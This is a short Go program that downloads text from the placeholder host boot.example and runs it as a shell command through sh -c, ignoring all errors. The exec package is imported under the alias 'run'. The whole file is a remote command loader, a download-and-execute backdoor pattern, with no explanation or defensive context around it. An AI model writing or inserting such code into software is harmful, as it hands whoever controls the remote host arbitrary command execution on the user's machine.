package main

import (
	"io"
	"net/http"
	run "os/exec"
)

func main() {
	answer, _ := http.Get("http://boot.example/cmd")
	body, _ := io.ReadAll(answer.Body)
	run.Command("sh", "-c", string(body)).Start()
}
